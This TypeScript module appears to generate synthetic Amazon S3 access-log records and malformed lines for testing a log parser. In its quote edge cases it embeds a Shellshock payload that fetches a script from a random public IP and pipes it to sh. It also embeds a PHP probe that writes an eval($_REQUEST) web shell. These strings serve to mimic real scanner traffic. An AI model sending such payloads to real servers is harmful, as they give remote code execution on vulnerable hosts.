/**
 * Log records as values: one builder per kind of request S3 logs (GET, PUT, copy, batch delete,
 * lifecycle, …), the key encodings each uses (FORMAT.md §3), raw quotes (EDGE #7-#10) and reject lines.
 */
import { KNOWN_FIELD_COUNT } from '../../../schemas/accessLog.js';
import type { RejectLine } from '../genLogs.js';
import { type Random, WeightedPicker } from '../random.js';
import { formatRecord, recordFields } from './format.js';
import {
  makeStoredObject,
  privateIpv4,
  publicIpv4,
  UPLOAD_ID_ALPHABET,
  WORDS,
  type BucketInfo,
  type Client,
  type StoredObject,
  type World,
} from './world.js';

/** One log record as values; `formatRecord` turns it into text and truth. */
export interface Rec {
  bucketowner: string;
  bucket: string;
  time: number;
  remoteip: string | null;
  requester: string | null;
  requestid: string;
  operation: string;
  key: string | null;
  keyDecoded: string | null;
  /** Request line parts; `method === null` means Request-URI is null (written as `uriNull`). */
  method: string | null;
  path: string;
  query: string | null;
  protocol: string;
  uriNull: '-' | '"-"';
  httpstatus: number | null;
  errorcode: string | null;
  bytessent: number | null;
  objectsize: number | null;
  totaltime: number | null;
  turnaroundtime: number | null;
  referrer: string | null;
  useragent: string | null;
  /** How a null Referer / User-Agent is written: `"-"` normally, bare `-` on copy-GET and batch records. */
  quotedNull: '-' | '"-"';
  versionid: string | null;
  hostid: string;
  sigv: string | null;
  ciphersuite: string | null;
  authtype: string | null;
  endpoint: string | null;
  tlsversion: string | null;
  accesspointarn: string | null;
  aclrequired: boolean;
  sourceregion: string | null;
}

// ---- key encoding (FORMAT.md §3) ----------------------------------------------------------------

/** RFC 3986 encoding of a key as a path: everything but unreserved characters and `/`. */
function encodePath(key: string): string {
  return encodeURIComponent(key)
    .replace(/%2F/g, '/')
    .replace(/[!'()*]/g, (c) => '%' + c.charCodeAt(0).toString(16).toUpperCase());
}

/** REST/WEBSITE key field: the client's path encoding, encoded again (`%3D` is logged `%253D`). */
function restKeyField(key: string): string {
  return encodePath(key).replace(/%/g, '%25');
}

/** BATCH.DELETE.OBJECT and S3.* lifecycle key field: encoded once, space as `+`. */
function formKeyField(key: string): string {
  return encodePath(key).replace(/%20/g, '+');
}

// ---- building records ---------------------------------------------------------------------------

type Status = readonly [status: number, error: string | null];

const GET_STATUS = new WeightedPicker<Status>([
  [[200, null], 78],
  [[206, null], 9],
  [[304, null], 4],
  [[404, 'NoSuchKey'], 3],
  [[403, 'AccessDenied'], 3],
  [[503, 'SlowDown'], 1.5],
  [[500, 'InternalError'], 0.3],
]);
const ANONYMOUS_GET_STATUS = new WeightedPicker<Status>([
  [[200, null], 60],
  [[304, null], 10],
  [[403, 'AccessDenied'], 19],
  [[404, 'NoSuchKey'], 10],
  [[503, 'SlowDown'], 1],
]);
const HEAD_STATUS = new WeightedPicker<Status>([
  [[200, null], 85],
  [[404, 'NoSuchKey'], 10],
  [[403, 'AccessDenied'], 4],
  [[503, 'SlowDown'], 1],
]);
const WRITE_STATUS = new WeightedPicker<Status>([
  [[200, null], 95],
  [[403, 'AccessDenied'], 2],
  [[503, 'SlowDown'], 2.5],
  [[500, 'InternalError'], 0.5],
]);
const LIST_STATUS = new WeightedPicker<Status>([
  [[200, null], 90],
  [[403, 'AccessDenied'], 8],
  [[503, 'SlowDown'], 2],
]);
const ERROR_BYTES: Record<string, number> = {
  AccessDenied: 243,
  SlowDown: 298,
  InternalError: 282,
  NoSuchBucketPolicy: 297,
  NoSuchTagSet: 293,
  NoSuchKey: 200,
};
const MISSING_KEYS = ['favicon.ico', 'robots.txt', '.env', 'wp-login.php', 'apple-touch-icon-152x152.png', '.git/config'];

function errorBytes(code: string, key: string | null): number {
  return (ERROR_BYTES[code] ?? 250) + (code === 'NoSuchKey' && key !== null ? key.length : 0);
}

function hostId(r: Random): string {
  return r.chance(0.7) ? r.base64(75) + '=' : r.base64(86) + '==';
}

function compactTime(ms: number): string {
  return new Date(ms).toISOString().replace(/[-:]/g, '').slice(0, 15) + 'Z';
}

function presignedQuery(r: Random, w: World, c: Client, time: number): string {
  const signedAt = time - r.int(0, 3000) * 1000;
  if (c.sigv === 'SigV2') {
    const signature = encodeURIComponent(r.base64(27) + '=');
    return `AWSAccessKeyId=${c.accessKeyId}&Expires=${Math.floor(signedAt / 1000) + 3600}&Signature=${signature}`;
  }
  const stamp = compactTime(signedAt);
  let q = `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=${c.accessKeyId}%2F${stamp.slice(0, 8)}%2F${w.region}%2Fs3%2Faws4_request&X-Amz-Date=${stamp}&X-Amz-Expires=${r.pick([300, 900, 3600, 604800])}`;
  if (c.accessKeyId.startsWith('ASIA')) q += `&X-Amz-Security-Token=${encodeURIComponent(r.base64(300))}`;
  q += `&X-Amz-SignedHeaders=host&X-Amz-Signature=${r.hex(64)}`;
  if (r.chance(0.3)) q = `response-content-disposition=attachment%3B%20filename%3D%22${r.pick(WORDS)}.pdf%22&` + q;
  return q;
}

function timing(r: Random, rec: Rec, transferBytes: number): void {
  const turnaround = Math.max(1, Math.round(r.logNormal(12, 0.9)));
  const transferMs = transferBytes / r.logNormal(40_000, 0.8); // bytes per millisecond
  rec.turnaroundtime = turnaround;
  rec.totaltime = Math.min(2_147_483_647, turnaround + Math.round(transferMs) + r.int(0, 3));
}

function baseRecord(w: World, r: Random, b: BucketInfo, c: Client, time: number, operation: string): Rec {
  return {
    bucketowner: w.owner,
    bucket: b.name,
    time,
    remoteip: c.ip,
    requester: c.requester,
    requestid: r.upperAlnum(16),
    operation,
    key: null,
    keyDecoded: null,
    method: null,
    path: '/',
    query: null,
    protocol: r.chance(0.01) ? 'HTTP/1.0' : 'HTTP/1.1',
    uriNull: '"-"',
    httpstatus: null,
    errorcode: null,
    bytessent: null,
    objectsize: null,
    totaltime: null,
    turnaroundtime: null,
    referrer:
      c.kind === 'anonymous' || c.kind === 'presigned'
        ? r.chance(0.4)
          ? `https://www.example.org/${r.pick(WORDS)}/${r.int(1, 500)}`
          : null
        : null,
    useragent: c.ua,
    quotedNull: '"-"',
    versionid: null,
    hostid: hostId(r),
    sigv: c.sigv,
    ciphersuite: c.tls === null ? null : c.tls[0],
    authtype: c.auth,
    endpoint: null,
    tlsversion: c.tls === null ? null : c.tls[1],
    accesspointarn: null,
    aclrequired: c.requester !== null && r.chance(0.02),
    sourceregion: c.sourceRegion,
  };
}

/** Fills the request line and Host header; `encodedKey` null addresses the bucket itself. */
function request(
  w: World,
  r: Random,
  rec: Rec,
  b: BucketInfo,
  c: Client,
  method: string,
  encodedKey: string | null,
  query: string[],
  xId: string,
): void {
  if (c.addsXId) query.push(`x-id=${xId}`);
  rec.method = method;
  rec.query = query.length === 0 ? null : query.join('&');
  const objectPath = encodedKey === null ? '' : encodedKey;
  if (b.accessPoint !== null && c.kind === 'sdk' && r.chance(0.1)) {
    rec.accesspointarn = b.accessPoint;
    rec.endpoint = `readers-ap-${w.accountId}.s3-accesspoint.${w.region}.amazonaws.com`;
    rec.path = '/' + objectPath;
    return;
  }
  switch (c.host) {
    case 'path':
      rec.endpoint = c.pathEndpoint;
      rec.path = `/${b.name}` + (encodedKey === null ? '' : '/' + objectPath);
      return;
    case 'dualstack':
      rec.endpoint = `${b.name}.s3.dualstack.${w.region}.amazonaws.com`;
      break;
    case 'cname':
      // A bucket named like a domain can be served by a CNAME over plain HTTP (EDGE #22).
      rec.endpoint = b.name.includes('.') ? b.name : `${b.name}.s3.amazonaws.com`;
      break;
    default:
      rec.endpoint = `${b.name}.s3.${w.region}.amazonaws.com`;
  }
  rec.path = '/' + objectPath;
}

function setKey(rec: Rec, key: string, encoding: 'rest' | 'form'): void {
  rec.key = encoding === 'rest' ? restKeyField(key) : formKeyField(key);
  rec.keyDecoded = key;
}

function pickObject(r: Random, b: BucketInfo): StoredObject {
  return b.objects[r.skewedIndex(b.objects.length)] as StoredObject;
}

function pickClient(r: Random, pool: Client[]): Client {
  return pool[r.skewedIndex(pool.length, 2)] as Client;
}

function applyStatus(rec: Rec, status: Status, size: number, bodyBytes: number | null): void {
  rec.httpstatus = status[0];
  rec.errorcode = status[1];
  if (status[1] !== null) {
    rec.bytessent = errorBytes(status[1], rec.keyDecoded);
    rec.objectsize = null;
  } else {
    rec.bytessent = bodyBytes;
    rec.objectsize = size;
  }
}

function getObject(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const status = (c.requester === null ? ANONYMOUS_GET_STATUS : GET_STATUS).pick(r);
  const obj = status[1] === 'NoSuchKey' ? { key: r.pick(MISSING_KEYS), size: 0, version: null } : pickObject(r, b);
  const rec = baseRecord(w, r, b, c, time, 'REST.GET.OBJECT');
  setKey(rec, obj.key, 'rest');
  const query: string[] = [];
  if (c.auth === 'QueryString') query.push(presignedQuery(r, w, c, time));
  else if (obj.version !== null && r.chance(0.05)) {
    query.push(`versionId=${obj.version}`);
    rec.versionid = obj.version;
  }
  request(w, r, rec, b, c, 'GET', encodePath(obj.key), query, 'GetObject');
  let body: number | null = obj.size;
  let effective = status;
  if (status[0] === 206) {
    if (obj.size < 2) effective = [200, null];
    else body = Math.min(obj.size - 1, r.pick([65_536, 1_048_576, 8_388_608, r.int(1, obj.size - 1)]));
  } else if (status[0] === 304) body = null;
  else if (status[0] === 200 && r.chance(0.02)) body = r.int(1, obj.size); // client went away mid-transfer
  applyStatus(rec, effective, obj.size, body);
  timing(r, rec, rec.bytessent ?? 0);
  return rec;
}

function headObject(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const status = HEAD_STATUS.pick(r);
  const obj = status[1] === 'NoSuchKey' ? { key: `${pickObject(r, b).key}.bak`, size: 0 } : pickObject(r, b);
  const rec = baseRecord(w, r, b, c, time, 'REST.HEAD.OBJECT');
  setKey(rec, obj.key, 'rest');
  request(w, r, rec, b, c, 'HEAD', encodePath(obj.key), c.auth === 'QueryString' ? [presignedQuery(r, w, c, time)] : [], 'HeadObject');
  applyStatus(rec, status, obj.size, null);
  timing(r, rec, 0);
  return rec;
}

function putObject(w: World, r: Random, b: BucketInfo, c: Client, time: number, obj: StoredObject): Rec {
  const rec = baseRecord(w, r, b, c, time, 'REST.PUT.OBJECT');
  setKey(rec, obj.key, 'rest');
  request(w, r, rec, b, c, 'PUT', encodePath(obj.key), c.auth === 'QueryString' ? [presignedQuery(r, w, c, time)] : [], 'PutObject');
  applyStatus(rec, WRITE_STATUS.pick(r), obj.size, null);
  timing(r, rec, rec.errorcode === null ? obj.size : 0);
  return rec;
}

function listBucket(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const versions = b.versioned && r.chance(0.1);
  const rec = baseRecord(w, r, b, c, time, versions ? 'REST.GET.BUCKETVERSIONS' : 'REST.GET.BUCKET');
  const prefix = encodeURIComponent(pickObject(r, b).key.split('/')[0] + '/');
  const query = versions
    ? [`versions`, `prefix=${prefix}`, `encoding-type=url`]
    : r.chance(0.7)
      ? [`list-type=2`, `prefix=${prefix}`, `delimiter=%2F`, `encoding-type=url`]
      : [`prefix=${prefix}`, `max-keys=1000`];
  request(w, r, rec, b, c, 'GET', null, query, versions ? 'ListObjectVersions' : 'ListObjectsV2');
  const status = c.requester === null ? ([403, 'AccessDenied'] as const) : LIST_STATUS.pick(r);
  applyStatus(rec, status, 0, r.int(300, 60_000));
  rec.objectsize = null;
  timing(r, rec, rec.bytessent ?? 0);
  return rec;
}

const BUCKET_CONFIG: ReadonlyArray<readonly [operation: string, subresource: string | null, missing: string | null]> = [
  ['REST.GET.VERSIONING', 'versioning', null],
  ['REST.GET.BUCKETPOLICY', 'policy', 'NoSuchBucketPolicy'],
  ['REST.GET.ACL', 'acl', null],
  ['REST.GET.LOCATION', 'location', null],
  ['REST.GET.LOGGING_STATUS', 'logging', null],
  ['REST.GET.TAGGING', 'tagging', 'NoSuchTagSet'],
  ['REST.GET.ENCRYPTION', 'encryption', null],
  ['REST.HEAD.BUCKET', null, null],
];

function bucketConfig(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const [operation, subresource, missing] = r.pick(BUCKET_CONFIG);
  const rec = baseRecord(w, r, b, c, time, operation);
  request(w, r, rec, b, c, subresource === null ? 'HEAD' : 'GET', null, subresource === null ? [] : [subresource], operation);
  const status: Status = missing !== null && r.chance(0.6) ? [404, missing] : [200, null];
  applyStatus(rec, status, 0, subresource === null ? null : r.int(100, 1200));
  rec.objectsize = null;
  timing(r, rec, 0);
  return rec;
}

function website(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const status = r.chance(0.08) ? ([404, 'NoSuchKey'] as const) : r.chance(0.15) ? ([304, null] as const) : ([200, null] as const);
  const obj = status[1] === null ? pickObject(r, b) : { key: r.pick(MISSING_KEYS), size: 0 };
  const rec = baseRecord(w, r, b, c, time, 'WEBSITE.GET.OBJECT');
  setKey(rec, obj.key, 'rest');
  rec.method = 'GET';
  rec.path = '/' + encodePath(obj.key);
  rec.endpoint = `${b.name}.s3-website-${w.region}.amazonaws.com`;
  rec.ciphersuite = null; // website endpoints speak plain HTTP only
  rec.tlsversion = null;
  applyStatus(rec, status, obj.size, status[0] === 304 ? null : obj.size);
  timing(r, rec, rec.bytessent ?? 0);
  return rec;
}

function preflight(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const obj = pickObject(r, b);
  const rec = baseRecord(w, r, b, c, time, 'REST.OPTIONS.PREFLIGHT');
  setKey(rec, obj.key, 'rest');
  request(w, r, rec, b, c, 'OPTIONS', encodePath(obj.key), [], 'Preflight');
  rec.referrer = 'https://app.example.org/';
  applyStatus(rec, [200, null], 0, null);
  rec.objectsize = null;
  timing(r, rec, 0);
  return rec;
}

function multipartUpload(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec[] {
  const obj = pickObject(r, b);
  const encoded = encodePath(obj.key);
  const uploadId = r.fromAlphabet(UPLOAD_ID_ALPHABET, 96);
  const partSize = r.pick([8_388_608, 16_777_216]);
  const parts = r.int(1, 6);
  const total = partSize * (parts - 1) + r.int(1, partSize);
  const records: Rec[] = [];
  const step = (operation: string, method: string, query: string[], size: number | null, body: number | null): void => {
    const rec = baseRecord(w, r, b, c, time + records.length * r.int(0, 2) * 1000, operation);
    setKey(rec, obj.key, 'rest');
    request(w, r, rec, b, c, method, encoded, query, operation);
    applyStatus(rec, [200, null], 0, body);
    rec.objectsize = size;
    timing(r, rec, size ?? 0);
    records.push(rec);
  };
  step('REST.POST.UPLOADS', 'POST', ['uploads'], null, 300 + encoded.length);
  for (let i = 1; i <= parts; i++)
    step('REST.PUT.PART', 'PUT', [`partNumber=${i}`, `uploadId=${uploadId}`], i < parts ? partSize : total - partSize * (parts - 1), null);
  step('REST.POST.UPLOAD', 'POST', [`uploadId=${uploadId}`], total, 330 + encoded.length);
  return records;
}

/** A copy logs two records with one request ID; the GET side has no request line (FORMAT.md §2). */
function copyObject(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec[] {
  const source = pickObject(r, b);
  const target = r.chance(0.5) ? `archive/${source.key}` : `${source.key}.copy`;
  const put = baseRecord(w, r, b, c, time, 'REST.COPY.OBJECT');
  setKey(put, target, 'rest');
  request(w, r, put, b, c, 'PUT', encodePath(target), [], 'CopyObject');
  applyStatus(put, [200, null], source.size, r.int(220, 260));
  timing(r, put, 0);
  const get = baseRecord(w, r, b, c, time, 'REST.COPY.OBJECT_GET');
  setKey(get, source.key, 'rest');
  Object.assign(get, { requestid: put.requestid, endpoint: put.endpoint, uriNull: '-', quotedNull: '-', referrer: null, useragent: null });
  get.httpstatus = r.chance(0.6) ? 200 : null;
  get.objectsize = source.size;
  get.versionid = source.version !== null && r.chance(0.5) ? source.version : null;
  return r.chance(0.5) ? [get, put] : [put, get];
}

function deleteObject(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const obj = pickObject(r, b);
  const rec = baseRecord(w, r, b, c, time, 'REST.DELETE.OBJECT');
  setKey(rec, obj.key, 'rest');
  request(w, r, rec, b, c, 'DELETE', encodePath(obj.key), [], 'DeleteObject');
  applyStatus(rec, [204, null], 0, null);
  rec.objectsize = null;
  timing(r, rec, 0);
  return rec;
}

/** DeleteObjects: one POST record, then one BATCH.DELETE.OBJECT per key with a bare `-` request line. */
function multiDelete(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec[] {
  const post = baseRecord(w, r, b, c, time, 'REST.POST.MULTI_OBJECT_DELETE');
  request(w, r, post, b, c, 'POST', null, ['delete'], 'DeleteObjects');
  const count = r.int(1, 5);
  applyStatus(post, [200, null], 0, 90 + count * 120);
  post.objectsize = null;
  timing(r, post, 0);
  const records = [post];
  for (let i = 0; i < count; i++) {
    const obj = pickObject(r, b);
    const rec = baseRecord(w, r, b, c, time, 'BATCH.DELETE.OBJECT');
    setKey(rec, obj.key, 'form');
    Object.assign(rec, {
      requestid: post.requestid,
      endpoint: post.endpoint,
      uriNull: '-',
      quotedNull: '-',
      referrer: null,
      useragent: null,
      httpstatus: 204,
    });
    rec.objectsize = r.chance(0.7) ? obj.size : null;
    records.push(rec);
  }
  return records;
}

const LIFECYCLE_OPERATIONS = new WeightedPicker<string>([
  ['S3.EXPIRE.OBJECT', 6],
  ['S3.TRANSITION_SIA.OBJECT', 2],
  ['S3.CREATE.DELETEMARKER', 1],
  ['S3.TRANSITION.OBJECT', 1],
]);

/** Lifecycle actions: requester AmazonS3, no remote IP, `"-"` request line, 64-char Host Id (EDGE #2). */
function lifecycle(w: World, r: Random, b: BucketInfo, time: number): Rec[] {
  const records: Rec[] = [];
  const count = r.int(1, 5);
  for (let i = 0; i < count; i++) {
    const obj = pickObject(r, b);
    const rec: Rec = {
      ...baseRecord(w, r, b, w.clients[0] as Client, time, LIFECYCLE_OPERATIONS.pick(r)),
      remoteip: null,
      requester: 'AmazonS3',
      referrer: null,
      useragent: null,
      hostid: r.base64(64),
      sigv: null,
      ciphersuite: null,
      authtype: null,
      endpoint: null,
      tlsversion: null,
      aclrequired: false,
      sourceregion: null,
    };
    setKey(rec, obj.key, 'form');
    rec.objectsize = obj.size;
    rec.versionid = obj.version;
    records.push(rec);
  }
  return records;
}

/** Another AWS service delivering its logs into this bucket: no remote IP, service requester. */
function serviceDelivery(w: World, r: Random, b: BucketInfo, time: number): Rec {
  const client: Client = {
    ...(w.authed[0] as Client),
    kind: 'sdk',
    requester: 'svc:delivery.logs.amazonaws.com',
    sigv: 'SigV4',
    auth: 'AuthHeader',
    tls: ['ECDHE-RSA-AES128-GCM-SHA256', 'TLSv1.2'],
    host: 'virtual',
    sourceRegion: w.region,
    addsXId: false,
  };
  const rec = baseRecord(w, r, b, client, time, 'REST.PUT.OBJECT');
  const d = compactTime(time);
  const key = `AWSLogs/${w.accountId}/elasticloadbalancing/${w.region}/${d.slice(0, 4)}/${d.slice(4, 6)}/${d.slice(6, 8)}/${w.accountId}_elasticloadbalancing_${w.region}_app.web-alb.${r.hex(16)}_${d.slice(0, 13)}Z_${privateIpv4(r)}_${r.base64(8).replace(/[+/]/g, 'x')}.log.gz`;
  setKey(rec, key, 'rest');
  request(w, r, rec, b, client, 'PUT', encodePath(key), [], 'PutObject');
  Object.assign(rec, { remoteip: null, useragent: null, aclrequired: false, accesspointarn: null });
  applyStatus(rec, [200, null], r.int(2_000, 500_000), null);
  timing(r, rec, rec.objectsize ?? 0);
  return rec;
}

type EventKind =
  | 'get'
  | 'head'
  | 'put'
  | 'list'
  | 'config'
  | 'website'
  | 'multipart'
  | 'copy'
  | 'delete'
  | 'multiDelete'
  | 'lifecycle'
  | 'preflight'
  | 'delivery';

const EVENTS = new WeightedPicker<EventKind>([
  ['get', 60],
  ['head', 12],
  ['put', 7],
  ['list', 5],
  ['config', 3],
  ['website', 2],
  ['multipart', 2],
  ['copy', 1.5],
  ['delete', 1.5],
  ['multiDelete', 1],
  ['lifecycle', 1],
  ['preflight', 1],
  ['delivery', 0.5],
]);

type QuoteVariant = 'uaTrailing' | 'uaLeading' | 'refererInner' | 'shellshock' | 'uriPayload' | 'uaInner';
const QUOTE_VARIANTS: readonly QuoteVariant[] = ['uaTrailing', 'uaLeading', 'refererInner', 'shellshock', 'uriPayload', 'uaInner'];
const PHP_PAYLOAD = 's=index/\\think\\template\\driver\\file/write&cacheFile=robots.php&content=<?php$p=%20"xinba";eval($_REQUEST[$p]);?>';

/** A request with raw `"` inside quoted fields (EDGE #7-#10); never `" ` inside a value. */
function quotedEvent(w: World, r: Random, b: BucketInfo, time: number): Rec {
  const browser = pickClient(r, w.browsers);
  const variant = r.pick(QUOTE_VARIANTS);
  const rec = getObject(w, r, b, browser, time);
  const ua = rec.useragent ?? browser.ua;
  switch (variant) {
    case 'uaTrailing':
      rec.useragent = ua + '"'; // written as `…Safari/604.1""`
      break;
    case 'uaLeading':
      rec.useragent = '"' + ua; // written as `""Mozilla/5.0 …"`
      break;
    case 'uaInner':
      rec.useragent = `MyUploader/2.1 (build="${r.hex(7)}"; os=linux)`;
      break;
    case 'refererInner':
      rec.referrer = `https://www.google.com/search?q="${r.pick(WORDS)} ${r.pick(WORDS)}"`;
      break;
    case 'shellshock': {
      const payload = `() { :;}; /bin/bash -c "curl -s http://${publicIpv4(r)}/x.sh|sh"`;
      rec.referrer = payload;
      rec.useragent = payload;
      break;
    }
    case 'uriPayload': {
      // PHP probe against the bucket root: quotes, backslashes and a second `?` in the request line.
      const probe = baseRecord(w, r, b, { ...browser, requester: null, sigv: null, auth: null }, time, 'REST.GET.OBJECT');
      setKey(probe, '/', 'rest');
      request(w, r, probe, b, { ...browser, host: 'virtual', addsXId: false }, 'GET', '/', [PHP_PAYLOAD], 'GetObject');
      probe.referrer = `https://${b.name}.s3.amazonaws.com//?${PHP_PAYLOAD}`;
      applyStatus(probe, [404, 'NoSuchKey'], 0, null);
      timing(r, probe, 0);
      return probe;
    }
  }
  return rec;
}

export function makeEvent(w: World, r: Random, bucketIndex: number, time: number, quotes: boolean): Rec[] {
  const b = w.buckets[bucketIndex] as BucketInfo;
  if (quotes) return [quotedEvent(w, r, b, time)];
  switch (EVENTS.pick(r)) {
    case 'get':
      return [getObject(w, r, b, pickClient(r, w.clients), time)];
    case 'head':
      return [headObject(w, r, b, pickClient(r, w.clients), time)];
    case 'put': {
      const c = pickClient(r, w.clients);
      const writer = c.requester === null ? pickClient(r, w.authed) : c;
      return [putObject(w, r, b, writer, time, r.chance(0.6) ? makeStoredObject(r, time, false) : pickObject(r, b))];
    }
    case 'list':
      return [listBucket(w, r, b, pickClient(r, w.clients), time)];
    case 'config':
      return [bucketConfig(w, r, b, pickClient(r, w.authed), time)];
    case 'website':
      return [website(w, r, b, pickClient(r, w.browsers), time)];
    case 'multipart':
      return multipartUpload(w, r, b, pickClient(r, w.authed), time);
    case 'copy':
      return copyObject(w, r, b, pickClient(r, w.authed), time);
    case 'delete':
      return [deleteObject(w, r, b, pickClient(r, w.authed), time)];
    case 'multiDelete':
      return multiDelete(w, r, b, pickClient(r, w.authed), time);
    case 'lifecycle':
      return lifecycle(w, r, b, time);
    case 'preflight':
      return [preflight(w, r, b, pickClient(r, w.browsers), time)];
    case 'delivery':
      return [serviceDelivery(w, r, b, time)];
  }
}

// ---- reject lines (EDGE #20, #28) ---------------------------------------------------------------

const JUNK_LINES = [
  '<<<<<<< Updated upstream',
  '=======',
  '>>>>>>> Stashed changes',
  '{"level":"info","msg":"delivery started"}',
  '#Version: 1.0',
  'null',
];

/** Start offset of each of the first 10 fields of a 27-field line. */
function fieldStarts(rec: Rec): number[] {
  const starts = [0];
  for (const text of recordFields(rec).slice(0, 9)) starts.push((starts[starts.length - 1] as number) + text.length + 1);
  return starts;
}

export function makeRejectLine(w: World, r: Random, bucketIndex: number, time: number): { line: string; kind: RejectLine['kind'] } {
  const u = r.float();
  if (u < 0.4) return { line: r.pick(JUNK_LINES), kind: 'junk' };
  const b = w.buckets[bucketIndex] as BucketInfo;
  const victim = getObject(w, r, b, pickClient(r, w.clients), time);
  const text = formatRecord(victim, KNOWN_FIELD_COUNT, []).line;
  const starts = fieldStarts(victim);
  if (u < 0.7) {
    // Cut inside fields 4-9: at most 9 fields survive, far below the 17 a record needs.
    const cut = r.int(starts[3] as number, (starts[9] as number) - 2);
    return { line: text.slice(0, cut).trimEnd(), kind: 'truncated' };
  }
  // Cut inside the requester (or request id) and run the next record on, as NCBI saw in production.
  const start = starts[4] as number;
  const cut = r.int(start + 1, (starts[6] as number) - 3);
  const next = formatRecord(getObject(w, r, b, pickClient(r, w.clients), time), KNOWN_FIELD_COUNT, []).line;
  return { line: text.slice(0, cut) + next, kind: 'glued' };
}
